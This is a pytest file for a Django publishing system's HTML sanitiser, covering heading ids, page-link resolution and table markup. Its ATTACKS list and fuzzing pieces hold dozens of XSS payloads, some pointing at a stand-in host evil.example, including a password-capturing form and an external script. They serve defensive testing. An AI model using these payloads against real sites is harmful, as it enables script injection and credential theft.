"""What editors write becomes safe, well-formed markup, and what cannot be published is said in words."""

import re

import pytest
from bs4 import BeautifulSoup
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.models import KeyFact
from publishing import ledger, richtext
from publishing.composition import Problem
from tests.factories import make_article, make_live_article, make_live_page, make_site_page, make_study

ALLOWED = {
    "p", "br", "strong", "em", "a", "ul", "ol", "li", "h2", "h3", "blockquote",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {"href", "start", "colspan", "rowspan"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<p>x</p><script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<p onclick=alert(1)>x</p>",
    '<a href="/x/" onmouseover="alert(1)" style="color:red" class="x" id="main" target="_blank">x</a>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<<p>script>alert(1)<</p>/script>",
    "<table><tr><td onclick=alert(1) style=x colspan=2>x</td></tr></table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
]


def assert_harmless(html: str) -> None:
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.name in ALLOWED
        assert set(tag.attrs) <= ATTRIBUTES
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", str(tag.get("href", "")), re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in richtext.LINK_SCHEMES


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_the_sanitiser_harmless(attack: str) -> None:
    for clean in (richtext.clean_full, richtext.clean_simple):
        once = clean(f"<p>Before.</p>{attack}<p>After.</p>")
        assert_harmless(once)
        assert clean(once) == once
        assert "Before." in once


PIECES = st.sampled_from(
    ["<p>", "</p>", "<a href='", "javascript:", "'>", "</a>", "<script>", "</script>", "<svg>", "</svg>", "<math>",
     "<style>", "</style>", "<!--", "-->", "<table>", "<td>", "<img src=x onerror=x>", "&lt;", "&#x3c;", '"', "x",
     "<noscript>", "</noscript>", "<title>", "<h2 id=main>", "<mglyph>", "<mtext>", "]]>", "<![CDATA["]
)  # fmt: skip


@settings(deadline=None)
@given(pieces=st.lists(PIECES, max_size=12))
def test_no_mixture_of_markup_gets_through(pieces: list[str]) -> None:
    once = richtext.clean_full("".join(pieces))

    assert_harmless(once)
    assert richtext.clean_full(once) == once


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_that_got_into_the_tables_does_not_reach_a_page(client: Client, attack: str) -> None:
    _, edition = make_live_page(body=f"<p>Before.</p>{attack}<p>After.</p>")

    prose = BeautifulSoup(client.get(edition.path).text, "html.parser").select_one(".prose")

    assert prose is not None
    assert "Before." in prose.get_text()
    assert not prose.select("script, style, svg, math, iframe, object, embed, form, input, img, link, meta, base")
    for tag in prose.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on") or name in {"style", "target"}]
        assert "script:" not in str(tag.get("href", "")).lower()


def test_ordinary_markup_stays_as_it_was_written() -> None:
    html = (
        "<h2>A</h2><p>One <strong>two</strong> <em>three</em><br>four</p><ul><li><p>x</p></li></ul>"
        '<ol start="3"><li>y</li></ol><blockquote><p>z</p></blockquote>'
        '<p><a href="https://example.org/?a=1&amp;b=2">a</a> '
        '<a href="mailto:a@example.org">b</a> <a href="tel:+15551234">c</a> <a href="page:article/x#y">d</a> '
        '<a href="/articles/">e</a></p>'
    )

    assert richtext.clean_full(html) == html


def test_a_card_holds_running_text_and_lists_only() -> None:
    cleaned = richtext.clean_simple("<h2>A</h2><p>b</p><table><tr><td>c</td></tr></table><ul><li>d</li></ul>")

    assert cleaned == "A<p>b</p>c<ul><li>d</li></ul>"


@pytest.mark.parametrize("html", ["", " ", "<p></p>", "<p> </p>", "<p><br></p>", "<ul><li></li></ul>"])
def test_markup_without_a_word_is_empty(html: str) -> None:
    assert richtext.clean_full(html) == ""
    assert richtext.clean_simple(html) == ""


@pytest.mark.django_db
def test_a_card_without_text_is_a_problem() -> None:
    article = make_article()
    KeyFact.objects.create(parent=article, region="main", ordering=20, body="<p> </p>")

    with pytest.raises(ledger.NotReady, match="A key fact block has no text"):
        ledger.publish(article, by=None)


# Headings


def finish(html: str) -> richtext.Finished:
    return richtext.finish(html, resolve=lambda reference: (f"/{reference}/", None))


def ids(html: str) -> list[str]:
    return [str(tag["id"]) for tag in BeautifulSoup(html, "html.parser").find_all(id=True)]


def test_headings_get_ids_of_their_own_and_make_the_table_of_contents() -> None:
    finished = finish("<h2>Heat</h2><h3>Heat</h3><h2>Heat &amp; cold</h2><h2>Heat 2</h2><h2>…</h2><h2>…</h2>")

    assert ids(finished.html) == ["heat", "heat-2", "heat-cold", "heat-2-2", "section", "section-2"]
    assert finished.contents[1:3] == [
        {"level": 3, "id": "heat-2", "title": "Heat"},
        {"level": 2, "id": "heat-cold", "title": "Heat & cold"},
    ]


@pytest.mark.django_db
def test_no_id_stands_twice_on_a_page_whatever_its_headings_are_called(client: Client) -> None:
    make_study(key="a-study")
    titles = ["References", "Key points", "How this page was reviewed", "How reviewed", "Related", "Series nav", "Main",
              "Disclaimer heading", "Cite 1 1", "Ref 1", "Contents"]  # fmt: skip
    headings = "".join(f"<h2>{title}</h2><p>Words.</p>" for title in titles)
    make_live_article()
    _, edition = make_live_article(text=f"{headings}<p>So it is.[@a-study]</p>")

    found = ids(client.get(edition.path).text)

    assert len(found) == len(set(found)) > len(titles)


@pytest.mark.parametrize(
    ("html", "count"),
    [
        ("<h2>A</h2><h3>B</h3><h2>C</h2><h3>D</h3><h3>E</h3>", 0),
        ("<h3>A</h3>", 1),
        ("<h3>A</h3><h2>B</h2><h3>C</h3>", 1),
        ("<p>No heading at all.</p>", 0),
    ],
)
def test_a_heading_that_skips_a_level_is_a_problem(html: str, count: int) -> None:
    problems = finish(html).problems

    assert len(problems) == count
    assert all("“A” skips a level" in problem.message and problem.blocks for problem in problems)


# Links to pages


def test_a_link_by_name_gets_the_address_of_the_page_and_keeps_its_anchor() -> None:
    finished = finish('<p><a href="page:article/x">a</a> <a href="page:article/x#y">b</a> <a href="/z/">c</a></p>')

    assert finished.html == '<p><a href="/article/x/">a</a> <a href="/article/x/#y">b</a> <a href="/z/">c</a></p>'
    assert finished.references == ["article/x", "article/x"]


def test_a_link_that_cannot_be_resolved_leaves_its_words_and_its_problem() -> None:
    problem = Problem("Nothing there.")
    finished = richtext.finish('<p>See <a href="page:x">this</a>.</p>', resolve=lambda reference: (None, problem))

    assert finished.html == "<p>See this.</p>"
    assert finished.problems == [problem]


@pytest.mark.django_db
def test_a_link_to_a_page_that_does_not_exist_blocks_publishing() -> None:
    page = make_site_page(body='<p><a href="page:article/nowhere">x</a></p>')

    with pytest.raises(ledger.NotReady, match="“article/nowhere”, which does not exist"):
        ledger.publish(page, by=None)


@pytest.mark.django_db
def test_a_link_to_a_page_that_is_not_live_yet_is_a_warning(client: Client) -> None:
    target = make_article(title="Still in the drawer", slug="drawer")
    page, edition = make_live_page(body=f'<p><a href="page:{target.reference}">x</a></p>')

    assert [(problem.message, problem.blocks) for problem in page.compose().problems] == [
        ("A link leads to “Still in the drawer”, which is not live yet.", False)
    ]
    assert 'href="/articles/drawer/"' in client.get(edition.path).text


# Tables


def test_a_table_is_a_region_of_its_own_with_scoped_headers() -> None:
    finished = finish(
        "<table><tbody><tr><th>A</th><th>B</th></tr><tr><th>C</th><td>D</td></tr></tbody></table><table></table>"
    )
    regions = BeautifulSoup(finished.html, "html.parser").select(".table-region")

    assert [(region["role"], region["tabindex"], region["aria-label"]) for region in regions] == [
        ("region", "0", "Table 1"),
        ("region", "0", "Table 2"),
    ]
    assert [(cell.get_text(), cell["scope"]) for cell in regions[0].select("th")] == [
        ("A", "col"), ("B", "col"), ("C", "row"),
    ]  # fmt: skip


# Words


def test_the_words_of_a_page_come_a_line_a_paragraph() -> None:
    html = (
        "<h2>Heat</h2><p>One <strong>two</strong><br>three.</p><ul><li><p>a</p></li><li>b</li></ul>"
        "<table><tr><th>c</th><td>d</td></tr></table><img alt='A back.'><p> </p>"
    )

    assert richtext.words(html) == "Heat\nOne two three.\na\nb\nc d\n[A back.]"
